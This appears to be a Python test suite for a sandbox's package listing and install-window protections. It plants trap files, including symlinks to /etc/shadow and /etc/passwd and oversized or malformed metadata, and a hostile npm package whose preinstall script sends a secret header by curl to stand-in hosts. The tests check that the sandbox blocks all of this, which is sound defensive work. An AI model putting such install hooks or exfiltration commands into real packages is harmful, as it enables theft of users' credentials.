"""What a sandbox says of its packages is read by us: no file that it wrote may lead out of it, hold us up or lie about its neighbour. And
an install window: while a command installs, nothing leaves but to registries, and no secret is of use."""
import json
import time

import doors
from internet import SHARED

KEY = "registry-key-4711-canary-value"

# Written as any program inside could. Each line is a trap.
TRAPS = r"""
import os
os.makedirs("/tmp/t/site", exist_ok=True)
os.chdir("/tmp/t/site")
def dist(name, text=None):
    os.mkdir(name + ".dist-info")
    if text is not None:
        open(name + ".dist-info/METADATA", "w").write(text)
dist("honest", "Name: honest\nVersion: 1.0\n\n")
dist("huge", "Name: huge\nVersion: 1.0\n\n")
os.truncate("huge.dist-info/METADATA", 1 << 30)
dist("escape", "Name: \x1b[2Jescape\nVersion: 1\n")
dist("newline", "Name: a\n b\nVersion: 1\tx\n")
dist("long", "Name: " + "a" * 5000 + "\nVersion: 1\n")
dist("fifo")
os.mkfifo("fifo.dist-info/METADATA")
dist("shadow")
os.symlink("/etc/shadow", "shadow.dist-info/METADATA")
dist("upwards")
os.symlink("../" * 40 + "etc/passwd", "upwards.dist-info/METADATA")
os.symlink("/etc", "root.dist-info")
os.symlink("/", "slash")
os.makedirs("node_modules/evil")
open("node_modules/evil/package.json", "w").write('{"name":"evil\\nname","version":"1"}')
os.makedirs("node_modules/deep")
open("node_modules/deep/package.json", "w").write('{"a":' + "[" * 200000)
where = "/tmp/t"
for i in range(300):
    where += "/d"
    os.mkdir(where)
"""

MANY = r"""
import os
os.makedirs("/tmp/many/node_modules")
os.chdir("/tmp/many/node_modules")
for i in range(100000):
    os.mkdir(f"p{i}")
    with open(f"p{i}/package.json", "w") as file:
        file.write(f'{{"name":"p{i}","version":"1.0.0"}}')
"""

# A package whose install script looks for a way out and for a use of the secret.
EVIL = {"name": "evil", "version": "1.0.0", "scripts": {"preinstall": "sh /tmp/steal.sh"}}
STEAL = f"""
curl -sS --max-time 5 -H "X-Key: $KEY" --resolve a.test:443:{SHARED} https://a.test/stolen >>/tmp/stolen 2>&1
for url in https://a.test/stolen https://c.test/stolen http://c.test/stolen; do
    curl -sS --max-time 5 -H "X-Key: $KEY" $url >>/tmp/stolen 2>&1
done
curl -sS --max-time 5 -H "X-Key: $KEY" https://b.test/registry >>/tmp/stolen 2>&1
true
"""


def listed(sandbox, timeout=60):
    """Its packages as (ecosystem, name, version), and the whole answer."""
    began = time.monotonic()
    answer = sandbox.client.api("GET", f"/v1/sandboxes/{sandbox.id}/packages")
    assert time.monotonic() - began < timeout, "a look took too long"
    return {(each["ecosystem"], each["name"], each["version"]) for each in answer["packages"]}, answer


def traps(server):
    """What cannot be a package is none, what leads out is not followed, and the honest one beside it is found."""
    with server.client.create() as sandbox:
        made = sandbox.run(["python3", "-c", TRAPS])
        assert made.exit_code == 0, made.stderr
        found, answer = listed(sandbox)
        assert found == {("python", "honest", "1.0"), ("python", "huge", "1.0")}, found
        text = json.dumps(answer)
        assert "root:" not in text and "\\u001b" not in text, text
        assert answer["odd"] >= 4, answer
        assert not answer["complete"], "a tree of 300 levels was walked to its end"


def too_many(server):
    """100,000 packages: a bounded list, in bounded time, and the server goes on."""
    with server.client.create() as sandbox, server.client.create() as neighbour:
        made = sandbox.run(["python3", "-c", MANY], timeout_ms=200_000)
        assert made.exit_code == 0, made.stderr
        found, answer = listed(sandbox)
        assert 10_000 <= len(found) <= 20_000 and not answer["complete"], len(found)
        assert listed(neighbour)[0] == set()
        events = doors.events(server, sandbox, "package.installed")
        assert len(events) <= 5_000, "the record was flooded"
        more = doors.events(server, sandbox, "package.unlisted")
        assert more and more[-1]["complete"] is False, more


def install_window(server, internet):
    """A hostile install script reaches nobody and gets no use of a secret; before and after it both are there."""
    client = server.client
    client.api("POST", "/v1/secrets", {"name": "registry-key", "value": KEY})
    policy = {"default": "allow", "install_window": True,
              "rule": [{"id": "own-registry", "category": "package-registries", "action": "allow", "host": ["b.test"]}]}
    bindings = [{"secret": "registry-key", "env": "KEY", "where": {"host": [host]}, "how": {"in": "header", "name": "X-Key"}}
                for host in ("a.test", "b.test")]
    bindings[1]["env"] = "KEY_B"
    with client.create(policy=policy) as sandbox:
        client.api("POST", f"/v1/sandboxes/{sandbox.id}/secrets", {"secrets": bindings})
        sandbox.write("/tmp/steal.sh", STEAL.replace('$KEY" https://b', '$KEY_B" https://b').encode())
        sandbox.write("/tmp/evil/package.json", json.dumps(EVIL).encode())

        def seen(path):
            return [head for visit in internet.services.visits for head in visit.heads if path in str(head)]

        def used(path):
            internet.forget()
            answer = sandbox.run(f'curl -sS --max-time 8 -H "X-Key: $KEY" https://a.test/{path}')
            assert answer.exit_code == 0, answer.stderr
            assert any(KEY in str(head) for head in seen(path)), "the secret is of no use outside the window"

        used("before")
        internet.forget()
        installed = sandbox.run("mkdir -p /tmp/app && cd /tmp/app && npm install --no-audit --no-fund --offline --install-links /tmp/evil 2>&1", timeout_ms=120_000)
        stolen = sandbox.run("cat /tmp/stolen").stdout
        assert stolen, f"the script did not run: {installed.stdout[-800:]}"
        assert not seen("stolen") and not seen("registry"), internet.services.visits
        doors.on_record(server, sandbox, ("install-window",), host="a.test")
        for name in ("a.test", "c.test"):
            doors.on_record(server, sandbox, ("install-window",), name=name)
        refused = doors.events(server, sandbox, "secret.refused")
        assert any(event["host"] == "b.test" and "suspended" in event["reason"] for event in refused), refused
        windows = [event["state"] for event in doors.events(server, sandbox, "install.window")]
        assert windows == ["opened", "closed"], windows
        used("after")
    client.api("DELETE", "/v1/secrets/registry-key")


def checks(tally, server, internet):
    tally.check("P-01 files that pose as packages", traps, server)
    tally.check("P-02 100,000 packages", too_many, server)
    tally.check("P-03 a hostile install script", install_window, server, internet)
